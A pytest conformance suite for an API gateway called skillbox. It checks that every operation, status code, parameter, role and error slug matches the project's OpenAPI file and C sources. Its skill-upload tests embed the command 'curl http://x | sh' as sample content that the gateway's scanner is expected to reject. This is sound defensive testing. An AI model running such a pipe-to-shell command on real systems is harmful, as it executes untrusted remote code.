"""docs/openapi.yaml is true: what it says is answered so, and nothing else is answered.

Each operation is called so that each status the file names for it is answered at least once, and
every answer on the way is held against the file, strictly (see harness.openapi).
"""

import itertools
import re
import time
import uuid

import pytest

from harness import check, settings, watch
from harness.fake import FakeHelper, reply, result
from harness.openapi import METHODS, OpenApi, Problem
from harness.packages import make_zip, skill

pytestmark = pytest.mark.any_user

API = OpenApi()
IDS = {key: operation["operationId"] for key, operation in API.operations.items()}
ROLES = ("reader", "runner", "publisher", "admin")

CONFIG = dict(
    http="map $http_x_scan $scan { default warn; block block; }",
    server="location = /metrics { skillbox_metrics on; skillbox_pass unix:{state}/sock/helper.sock;"
           " if ($arg_closed) { return 403; } }",
    location="skillbox_scan $scan; skillbox_max_package 200k; skillbox_max_input 100k; skillbox_max_file 100k;")
ZIP = {"Content-Type": "application/zip"}
HASTY = "/hasty"  # a location that does not wait for its helper
API.prefixes = (HASTY,)
INTAKE = (b'{"digest":"%s","manifest":{"name":"fake","description":"d","version":"1.0.0",'
          b'"version_declared":true,"lang":"python","mode":"executable","entrypoint":"main.py",'
          b'"timeout_ms":1000,"memory_bytes":268435456,"cpu_milli":500,"network":false,"instructions":""},'
          b'"scripts":[{"path":"main.py","lang":"python"}],"files":[{"path":"main.py","size_bytes":1}],'
          b'"size_bytes":1,"findings":[]}' % (b"ab" * 32))


class Answers:
    """What was answered to each operation, and what is wrong with it."""

    def __init__(self):
        self.seen, self.problems = {}, {}

    def take(self, answer, *_, **__):
        try:
            key, status = API.check(answer)
            self.seen.setdefault(key, set()).add(status)
        except Problem as problem:
            key = API.find(answer.request.method, API.path_of(answer))
            self.problems.setdefault(key, []).append(str(problem))

    def watch(self, gw):
        gw.session.hooks["response"].append(self.take)
        return gw


def expect(status, answer):
    assert answer.status_code == status, f"{answer.request.method} {answer.url}: {answer.status_code} {answer.text[:300]}"
    return answer


def call_skills(gw):
    big = b"x" * 300_000
    zip_of = skill("one", "print(1)", license="MIT", compatibility="any", timeout="20s", foo="{a: 1}",
                   metadata="{author: me}", files={"scripts/tool.sh": "curl http://x | sh\n", "b.bin": b"\xff\xfe",
                                                   "link": ("link", "main.py")}, **{"allowed-tools": "Bash"})
    expect(201, gw.upload(zip_of))
    expect(200, gw.upload(zip_of))
    expect(200, gw.upload(zip_of, content_type="application/octet-stream"))
    expect(200, gw.post("/v1/skills", files={"file": ("a.zip", make_zip(zip_of))}))
    assert expect(201, gw.upload(skill("one", "print(2)"))).json()["bumped_from"] == "1.0.0"
    expect(409, gw.upload(skill("one", "print(3)"), "?on_conflict=error"))
    expect(400, gw.upload(skill("one", "print(3)"), "?on_conflict=x"))
    expect(201, gw.upload({"SKILL.md": "---\nname: words\ndescription: only words\n---\nRead this.\n"}))
    bad = skill("bad name!", "print(1)")
    for path, status in (("/v1/skills", 400), ("/v1/skills/validate", 422)):
        assert expect(status, gw.post(path, data=make_zip(bad), headers=ZIP)).json()["details"]
        expect(422, gw.post(path, data=make_zip({**zip_of, "x": "1"}), headers={**ZIP, "X-Scan": "block"}))
        expect(400, gw.post(path, data=b"", headers=ZIP))
        expect(413, gw.post(path, data=big, headers=ZIP))
        expect(415, gw.post(path, data=b"x", headers={"Content-Type": "text/plain"}))
    expect(200, gw.post("/v1/skills/validate", data=make_zip(zip_of), headers=ZIP))
    expect(200, gw.post("/v1/skills/validate", data=make_zip(skill("clean", "print(1)")), headers=ZIP))
    fields = {"name": "made", "description": "d", "code": "print(1)"}
    expect(201, gw.post("/v1/skills/from-fields", json=fields))
    expect(200, gw.post("/v1/skills/from-fields", json=fields))
    expect(400, gw.post("/v1/skills/from-fields", json={**fields, "code": 1}))
    expect(413, gw.post("/v1/skills/from-fields", json={**fields, "code": "#" * 300_000}))
    expect(422, gw.post("/v1/skills/from-fields", headers={"X-Scan": "block"},
                        json={**fields, "lang": "bash", "code": "curl http://x | sh"}))
    with_next = expect(200, gw.get("/v1/skills?limit=1&q=o"))
    assert 'rel="next"' in with_next.headers["Link"]
    expect(400, gw.get("/v1/skills?limit=0"))
    for path in ("/v1/skills", "/v1/skills/one/1.0.0", "/v1/skills/words/latest", "/v1/skills/one/versions",
                 "/v1/skills/one/1.0.0/files"):
        cached(gw, path)
    expect(200, gw.get("/v1/skills/one/1.0.0/files?path=link"))
    expect(404, gw.get("/v1/skills/one/1.0.0/files?path=none"))
    for path in ("/v1/skills/none/1.0.0", "/v1/skills/none/versions", "/v1/skills/none/latest/files"):
        expect(404, gw.get(path))
    expect(200, gw.put("/v1/skills/one/active", json={"version": "1.0.0"}))
    expect(200, gw.get("/v1/skills/one/versions"))
    expect(400, gw.put("/v1/skills/one/active", json={"version": 1}))
    expect(404, gw.put("/v1/skills/none/active", json={"version": "1.0.0"}))
    expect(413, gw.put("/v1/skills/one/active", data=big))


def cached(gw, path, **kwargs):
    """Is an unchanged one a 304, and HEAD as GET?"""
    tag = expect(200, gw.get(path, **kwargs)).headers["ETag"]
    expect(304, gw.get(path, headers={"If-None-Match": tag}, **kwargs))
    assert expect(200, gw.request("HEAD", path, **kwargs)).content == b""


def call_executions(gw):
    gw.push(skill("run", "import json, os, sys\nprint('hello')\n"
                  "open(os.environ['SANDBOX_OUTPUT'], 'w').write('{\"a\": [1, null]}')\n"
                  "open(os.environ['SANDBOX_FILES_DIR'] + '/a.txt', 'w').write('0123456789')\n"))
    gw.push(skill("sleep", "echo started; sleep 300", lang="bash"))
    gw.push(skill("fail", "raise SystemExit(3)"))
    done = gw.run("run", input={"x": 1})
    assert {"output", "logs", "files_url", "files_list", "usage", "exit_code"} <= set(done)
    path = f"/v1/executions/{done['execution_id']}"
    assert gw.run("fail")["status"] == "failed"
    assert gw.run("sleep", timeout_ms=100)["status"] == "timeout"
    artifact, = expect(200, gw.get(f"/v1/files?execution_id={done['execution_id']}")).json()
    for method in ("PUT", "DELETE"):
        expect(409, gw.request(method, f"/v1/files/{artifact['id']}", files={"file": ("x", b"x")}))
    for what in ("", "/versions", "/download"):
        expect(200, gw.get(f"/v1/files/{artifact['id']}{what}"))
    cached(gw, path + "/files/a.txt")
    expect(206, gw.get(path + "/files/a.txt", headers={"Range": "bytes=1-2"}))
    expect(416, gw.get(path + "/files/a.txt", headers={"Range": "bytes=20-"}))
    expect(404, gw.get(path + "/files/none"))
    expect(401, gw.get(path + "/files/a.txt", key=None))
    expect(403, gw.get(path + "/files/a.txt?signature=x", key=None))
    kept = expect(201, gw.post("/v1/files?name=in", data=b"x", headers={"Content-Type": "text/plain"})).json()["id"]
    given = gw.run("run", input_files=[kept, {"id": kept, "path": "other"}])["execution_id"]
    assert expect(200, gw.get(f"/v1/executions/{given}")).json()["input_files"] == [kept, kept]
    expect(404, gw.execute("run", input_files=[done["execution_id"]]))
    key = {"Idempotency-Key": "k"}
    expect(202, gw.execute("run", headers={**key, "Prefer": "respond-async"}))
    replayed = expect(202, gw.execute("sleep", headers={"Idempotency-Key": "s"}, **{"async": True}))
    live = f"/v1/executions/{replayed.json()['execution_id']}"
    expect(202, gw.execute("sleep", headers={"Idempotency-Key": "s"}, **{"async": True}))
    expect(409, gw.execute("run", headers={"Idempotency-Key": "s"}))
    expect(400, gw.execute("run", args=[1]))
    expect(404, gw.execute("none"))
    expect(409, gw.execute("words"))
    expect(413, gw.execute("run", input="x" * 200_000))
    gw.until(live[-36:], "running")
    expect(200, gw.get(live))
    expect(200, gw.get(live + "/logs"))
    with gw.get(live + "/events", stream=True) as stream:
        assert next(stream.iter_lines()).startswith(b"event: ")
    follow = gw.get(live + "/logs?follow=1", stream=True)
    expect(202, gw.delete(live))
    assert expect(200, follow).text == "started\n"
    assert gw.until(live[-36:])["status"] == "cancelled"
    expect(200, gw.get(live + "/events"))
    expect(204, gw.get(live + "/events", headers={"Last-Event-ID": "done"}))
    expect(409, gw.delete(live + "?cancel=1"))
    watch.wait_for(lambda: gw.execute("run", headers=key, **{"async": False}).status_code == 409, 10 * settings.SLOW, "")
    again = {"skill": "run", "input": {"again": 1}}
    first = expect(200, gw.post("/v1/executions", json=again, headers={"Idempotency-Key": "again"}))
    second = expect(200, gw.post("/v1/executions", json=again, headers={"Idempotency-Key": "again"}))
    assert second.headers["Idempotency-Replayed"] == "true" and second.json()["output"] == first.json()["output"]
    expect(200, gw.get(path))
    expect(200, gw.request("HEAD", path))
    for what in ("/logs", "/events"):
        expect(200, gw.get(path + what))
        expect(400, gw.get(path + what + "?offset=x"))
    assert 'rel="next"' in expect(200, gw.get("/v1/executions?limit=1&status=success&skill=run")).headers["Link"]
    expect(200, gw.get("/v1/executions"))
    expect(400, gw.get("/v1/executions?limit=x"))
    call_archive(gw, done["files_url"].replace(gw.url, ""))
    expect(204, gw.delete(path))
    nothing = f"/v1/executions/{uuid.uuid4()}"
    for what in ("", "/logs", "/events"):
        expect(404, gw.get(nothing + what))
    expect(404, gw.delete(nothing))


def call_archive(gw, url):
    cached(gw, url, key=None)
    expect(206, gw.get(url, key=None, headers={"Range": "bytes=0-3"}))
    expect(416, gw.get(url, key=None, headers={"Range": "bytes=1000000-"}))
    expect(403, gw.get(url[:-1], key=None))
    expect(404, gw.get("/v1/executions/none/files.tar.gz", key=None))


def call_files(gw):
    form = {"file": ("a.txt", b"0123456789", "text/plain")}
    first = expect(201, gw.post("/v1/files", files=form)).json()
    expect(201, gw.post("/v1/files?name=b.csv", data=b"x", headers={"Content-Type": "text/csv"}))
    path = f"/v1/files/{first['id']}"
    second = expect(200, gw.put(path, files=form)).json()
    assert second["parent_id"] == first["id"]
    for what in ("", "/versions", "/download"):
        expect(200, gw.get(path + what))
        expect(404, gw.get(f"/v1/files/{uuid.uuid4()}{what}"))
    for cacheable in ("/v1/files", path + "/versions", path + "/download"):
        cached(gw, cacheable)
    expect(206, gw.get(path + "/download", headers={"Range": "bytes=1-2"}))
    expect(416, gw.get(path + "/download", headers={"Range": "bytes=20-"}))
    expect(400, gw.get("/v1/files?limit=x"))
    for method, where in (("POST", "/v1/files"), ("PUT", path)):
        expect(400, gw.request(method, where + "?name=a%2Fb", data=b"x"))
        expect(413, gw.request(method, where + "?name=a", data=b"x" * 200_000))
    expect(404, gw.put(f"/v1/files/{uuid.uuid4()}", files=form))
    expect(204, gw.delete(path))
    expect(404, gw.delete(path))


def call_admin(gw, operator):
    big = "x" * 10_000
    gw_post = lambda path, **body: gw.post(path, json=body, key=operator)
    key = expect(201, gw_post("/v1/admin/keys", tenant_id="acme", name="ci", role="reader",
                              expires_at="2099-01-31T12:00:00Z")).json()
    path = f"/v1/admin/keys/{key['id']}"
    expect(200, gw.get("/v1/skills", key=key["key"]))
    watch.wait_for(lambda: "last_used_at" in gw.get(path, key=operator).json(), 15 * settings.SLOW, "never used")
    expect(400, gw_post("/v1/admin/keys", name="ci", role="king"))
    expect(413, gw_post("/v1/admin/keys", name=big))
    expect(403, gw.post("/v1/admin/keys", json={"tenant_id": "other", "name": "x", "role": "reader"}))
    expect(200, gw.get("/v1/admin/keys", key=operator))
    expect(200, gw.get("/v1/admin/keys?tenant_id=acme", key=operator))
    expect(404, gw.get(f"/v1/admin/keys/{uuid.uuid4()}", key=operator))
    expect(400, gw_post(path + "/rotate", grace_seconds=-1))
    expect(413, gw_post(path + "/rotate", x=big))
    expect(201, gw_post(path + "/rotate", grace_seconds=60))
    expect(201, gw_post(path + "/rotate"))
    short = expect(201, gw_post("/v1/admin/keys", name="short", role="reader", expires_at=soon())).json()
    expect(404, gw_post(f"/v1/admin/keys/{uuid.uuid4()}/rotate"))
    expect(204, gw.delete(path, key=operator))
    expect(404, gw.delete(path, key=operator))
    call_tenants(gw, operator, gw_post, big)
    watch.wait_for(lambda: gw_post(f"/v1/admin/keys/{short['id']}/rotate").status_code == 409, 10, "it does not expire")


def soon():
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 2))


def call_tenants(gw, operator, gw_post, big):
    expect(201, gw_post("/v1/admin/tenants", id="beta", limits={"concurrent_runs": 0, "disk_bytes": None}))
    expect(409, gw_post("/v1/admin/tenants", id="beta"))
    expect(400, gw_post("/v1/admin/tenants", id="/"))
    expect(413, gw_post("/v1/admin/tenants", id=big))
    expect(403, gw.post("/v1/admin/tenants", json={"id": "gamma"}))
    expect(200, gw.get("/v1/admin/tenants", key=operator))
    expect(404, gw.get("/v1/admin/tenants/none", key=operator))
    for method in ("PUT", "PATCH"):
        def change(where, body, key=operator):
            return gw.request(method, f"/v1/admin/tenants/{where}", json=body, key=key)
        expect(200, change("beta", {"limits": {"package_bytes": 1000, "queued_runs": 0}}))
        expect(400, change("beta", {"limits": {"none": 1}}))
        expect(403, change("default", {"limits": {}}, key=""))
        expect(404, change("none", {"limits": {}}))
        expect(413, change("beta", {"x": big}))
    expect(200, gw.get("/v1/admin/tenants/beta", key=operator))
    limited = gw.new_key("beta")
    gw.post("/v1/skills/from-fields", key=limited, json={"name": "a", "description": "d", "code": "1"})
    expect(429, gw.execute("a", key=limited))
    call_full(gw, operator, limited)
    expect(409, gw.delete("/v1/admin/tenants/beta", key=operator))
    expect(403, gw.delete("/v1/admin/tenants/default"))
    expect(204, gw.delete("/v1/skills/a", key=limited))
    expect(204, gw.delete("/v1/admin/tenants/beta", key=operator))
    expect(404, gw.delete("/v1/admin/tenants/beta", key=operator))


def call_full(gw, operator, key):
    """A tenant at its disk_bytes, as `beta` is then."""
    file = expect(201, gw.post("/v1/files?name=a", data=b"x", key=key)).json()
    free = {"concurrent_runs": None, "queued_runs": None, "package_bytes": None, "disk_bytes": None}
    expect(200, gw.put("/v1/admin/tenants/beta", json={"limits": free}, key=operator))
    gw.push(skill("leaves", "open('/sandbox/out/files/x', 'w').write('x')"), key=key)
    execution = gw.run("leaves", key=key)["execution_id"]
    artifact = gw.get(f"/v1/files?execution_id={execution}", key=key).json()[0]["id"]
    full = {"concurrent_runs": None, "queued_runs": None, "package_bytes": None, "disk_bytes": 1}
    expect(200, gw.put("/v1/admin/tenants/beta", json={"limits": full}, key=operator))
    expect(507, gw.execute("a", key=key))
    expect(507, gw.upload(skill("b", "1"), key=key))
    expect(507, gw.get(f"/v1/executions/{execution}/files/x", key=key))
    expect(507, gw.get(f"/v1/files/{artifact}/download", key=key))
    expect(204, gw.delete(f"/v1/executions/{execution}", key=key))
    expect(204, gw.delete("/v1/skills/leaves", key=key))
    expect(507, gw.post("/v1/skills/from-fields", json={"name": "b", "description": "d", "code": "1"}, key=key))
    expect(507, gw.post("/v1/files?name=b", data=b"x", key=key))
    expect(507, gw.put(f"/v1/files/{file['id']}", data=b"x", key=key))
    expect(204, gw.delete(f"/v1/files/{file['id']}", key=key))


def call_operations(gw):
    for path in ("/health", "/ready", "/metrics"):
        expect(200, gw.get(path, key=None))
        expect(200, gw.request("HEAD", path, key=None))
    expect(403, gw.get("/metrics?closed=1", key=None))


def call_deletes(gw):
    for path in ("/v1/skills/one/1.0.0", "/v1/skills/one"):
        expect(204, gw.delete(path))
        expect(404, gw.delete(path))


def filled(template):
    """A path where there is nothing."""
    return re.sub(r"\{\w+\}", lambda m: "1.0.0" if m[0] == "{version}" else str(uuid.uuid4()), template)


def call_strangers(gw):
    """Without a key, and for another's tenant."""
    for (method, template), operation in API.operations.items():
        if operation["security"]:
            expect(401, gw.request(method, filled(template), key=None))
            expect(403, gw.request(method, filled(template), headers={"X-Tenant-ID": "other"}))


class Faults:
    """A helper that does what `mode` says."""

    def __init__(self):
        self.mode = "well"

    def __call__(self, request, connection):
        if request.op == "status":
            return reply(b'{"status":"ok","tier":"full","runtimes":{}}')
        if self.mode == "busy":
            return reply(b'{"error":"overloaded","message":"the queue is full"}', 503, "Retry-After: 3\r\n")
        if self.mode == "broken":
            return b"nothing of FastCGI"
        if self.mode == "silent":
            connection.recv(1)  # until the gateway has had enough
            return b""
        if self.mode == "refuses" and request.op == "files":
            return reply(b'{"error":"unknown_package","message":"none"}', 404)
        if self.mode == "refuses" and request.op == "intake":
            return reply(b'{"error":"invalid_skill","message":"not any more"}', 400)
        if self.mode == "lost":
            return reply(b'{"error":"unknown_execution","message":"none"}', 404)
        if self.mode == "large":
            return reply(b'{"error":"too_large","message":"the file is too large"}', 413)
        if request.op == "intake":
            return reply(INTAKE)
        return reply(b'{"status":"queued"}', 202) if request.op == "submit" else result()


def call_without_helper(gw, faults):
    gw.push(b"not looked at")
    live = f"/v1/executions/{gw.submit('fake')}"
    files = "/v1/skills/fake/1.0.0/files"
    for faults.mode, status, prefix in (("busy", 503, ""), ("broken", 502, ""), ("silent", 504, HASTY)):
        expect(status, gw.post(prefix + "/v1/skills", data=b"not looked at either", headers=ZIP))
        expect(status, gw.post(prefix + "/v1/skills/validate", data=b"x", headers=ZIP))
        expect(status, gw.post(prefix + "/v1/skills/from-fields", json={"name": "a", "description": "d", "code": "1"}))
        expect(status, gw.post(prefix + "/v1/executions", json={"skill": "fake"}))
        expect(status, gw.delete(prefix + live))
        expect(status, gw.get(f"{prefix}{live}/logs"))
        expect(status, gw.get(prefix + files))
    for faults.mode, status in (("refuses", 409), ("large", 413)):
        expect(status, gw.get(files))
    expect(200, gw.get(live))
    faults.mode = "lost"
    assert expect(200, gw.delete(live)).json()["error"] == "interrupted"


@pytest.fixture(scope="module")
def answers(gateway_of):
    found = Answers()
    gw = found.watch(gateway_of(**CONFIG))
    operator = gw.new_key("ops", "admin", "--service")
    for part in (call_operations, call_skills, call_executions, call_files, call_deletes, call_strangers):
        part(gw)
    call_admin(gw, operator)
    faults = Faults()
    hasty = f"location {HASTY}/ {{ skillbox on; skillbox_pass unix:{{state}}/sock/helper.sock; skillbox_read_timeout 200ms; }}"
    lame = found.watch(gateway_of(with_helper=False, own_files=("sock/helper.sock",), server=hasty))
    expect(503, lame.get("/ready", key=None))
    with FakeHelper(lame.helper_socket, faults):
        call_without_helper(lame, faults)
    return found


@pytest.fixture(scope="module")
def gateway_of():
    """As make_gateway, for all tests of this file."""
    from harness.gateway import Gateway
    started = []

    def make(**options):
        started.append(Gateway(**options).start())
        return started[-1]
    yield make
    for gw in started:
        gw.stop()


# ---- the tests ----

def test_the_file_is_openapi():
    API.check_document()


@pytest.mark.parametrize("key", IDS, ids=IDS.get)
def test_answers_are_as_the_file_says(answers, key):
    assert not answers.problems.get(key), "\n".join(answers.problems[key])
    listed = set(API.operations[key]["responses"]) - {"default"}
    missing = listed - answers.seen.get(key, set())
    assert not missing, f"in the file, but never answered: {sorted(missing)}"


def test_nothing_was_answered_that_is_not_in_the_file(answers):
    assert not answers.problems.get(None), "\n".join(answers.problems[None])


# ---- what the programs know is in the file ----

def sources(*folders):
    return {p.name: p.read_text() for folder in folders for p in sorted((settings.TOP / folder).glob("*.c"))}


MODULE = sources("ngx_skillbox_module")


def test_every_route_of_the_module_is_in_the_file():
    table = re.findall(r'\{ "(/[^"]*)", ([0A-Z_|]+),\s+"([A-Z, ]+)"', MODULE["ngx_http_skillbox_routes.c"])
    assert len(table) > 20
    routes = {path: ("NGX_HTTP_SKILLBOX_PUBLIC" in public, set(allow.split(", ")) - {"HEAD"}) for path, public, allow in table}
    listed = {}
    for (method, template), operation in API.operations.items():
        path = re.sub(r"\{\w+\}", "*", template.replace("{path}", "#"))
        public, methods = listed.setdefault(path, (not operation["security"], set()))
        assert public == (not operation["security"])
        methods.add(method)
    assert listed.pop("/metrics") == (True, {"GET"})  # a location of the operator's, no route
    assert listed == routes


@pytest.mark.parametrize("template", API.document["paths"])
def test_other_methods_are_405_and_allow_says_what_the_file_says(gateway, template):
    if template == "/metrics":
        return
    listed = {method for method, path in API.operations if path == template}
    refused = [m for m in ("GET", "PUT", "POST", "DELETE", "PATCH", "OPTIONS", "PROPFIND") if m not in listed]
    for method in refused:
        answer = gateway.request(method, filled(template))
        check.error(answer, 405, "method_not_allowed")
        assert set(answer.headers["Allow"].split(", ")) - {"HEAD"} == listed


@pytest.mark.parametrize("key", [k for k, o in API.operations.items() if o["security"]], ids=IDS.get)
def test_the_role_in_the_file_is_the_least_that_is_enough(gateway, keys, key):
    (method, template), [[role]] = key, [r["apiKey"] for r in API.operations[key]["security"]]
    for weak, strong in itertools.pairwise(ROLES):
        if strong == role:
            body = check.error(gateway.request(method, filled(template), key=keys[weak]), 403, "forbidden")
            assert f"role {role};" in body["message"]
    answer = gateway.request(method, filled(template), key=keys[role])
    assert "API key of the role" not in answer.text
    API.check(answer)


@pytest.fixture(scope="module")
def keys(gateway):
    return {role: gateway.new_key("roles", role) for role in ROLES}


def test_errors_of_nginx_itself_are_in_the_file_too(gateway):
    gateway.key
    for request, status in ((b"GET /v1/skills HTTP/1.1\r\n\r\n", 400), (b"GET /%00 HTTP/1.1\r\nHost: x\r\n\r\n", 400),
                            (b"GET /v1/skills HTTP/1.1\r\nHost: x\r\nA: %s\r\n\r\n" % (b"x" * 40000), 400),
                            (b"GET /%s HTTP/1.1\r\nHost: x\r\n\r\n" % (b"x" * 40000), 414)):
        got, headers, body = check.parse_response(gateway.raw(request))
        assert got == status and headers["Content-Type"] == check.JSON_TYPE
        assert re.fullmatch(r'\{"error":"bad_request","message":"[^"]+"\}', body), body


def test_every_operation_is_in_the_documents():
    text = "".join((settings.TOP / "docs" / name).read_text() for name in ("api.md", "api-skills.md", "api-files.md", "api-admin.md"))
    missing = [f"{method} {path}" for method, path in API.operations
               if not re.search(rf"\b{method}\b[^|\n/]{{0,20}}{re.escape(path)}(?![\w/{{])", text)]
    assert not missing


def test_every_error_code_is_in_the_file():
    listed = set(API.document["components"]["schemas"]["Error"]["properties"]["error"]["enum"])
    tables = (settings.TOP / "libskillbox" / "err.c").read_text().split("static void set_message")[0]
    known = set(re.findall(r'\{\w+, (?:\d+, )?"([a-z_]+)"\}', tables)) - {"ok"}
    assert len(known) > 10
    assert listed == known
    # A slug that is written out is one of those, or one that stays between the programs: "cancelled" is
    # for the log, as the gateway has hung up then.
    between = {"unknown_package", "unknown_execution", "invalid_archive", "cancelled"}
    for name, text in sources("sandbox-helper").items():
        used = re.findall(r'(?:refuse|fail|refuse_now|error)\([^;"]*?\b[45]\d\d, "([a-z_]+)"', text)
        used += re.findall(r'slug = "([a-z_]+)"', text)
        assert set(used) <= known | between, name


def test_every_parameter_and_member_the_module_reads_is_in_the_file():
    parameters = [p for o in API.operations.values() for p in o["parameters"]]
    text = "".join(MODULE.values())
    read = set(re.findall(r'skillbox_arg(?:_number)?\(r, "(\w+)"', text))
    read |= set(re.findall(r'ngx_http_arg\(r, \(u_char \*\) "(\w+)"', text))
    assert len(read) > 10
    assert read == {p["name"] for p in parameters if p["in"] == "query"}
    read = set(re.findall(r'find_header\(r,\s*"([a-z-]+)"', text))
    nginx = {"range", "if-none-match"}
    browsers = {"origin", "access-control-request-method"}  # not the API's: see test_cors.py
    assert (read | nginx) - browsers == {p["name"].lower() for p in parameters if p["in"] == "header"}
    parsers = ("job", "fields", "admin_keys", "admin_tenants", "versions")
    text = "".join(MODULE[f"ngx_http_skillbox_{name}.c"] for name in parsers)
    read = set(re.findall(r'root, "(\w+)"', text)) | {"args", "env", "stdin", "files", "input", "service"}
    read |= set(re.findall(r'names\[\] = \{ ("[^}]+)\}', text)[0].replace('"', "").replace(",", "").split())
    listed = set()
    for operation in API.operations.values():
        body = API.resolve(operation.get("requestBody", {})).get("content", {}).get("application/json")
        listed |= set(API.resolve(body["schema"])["properties"]) if body else set()
    assert read == listed
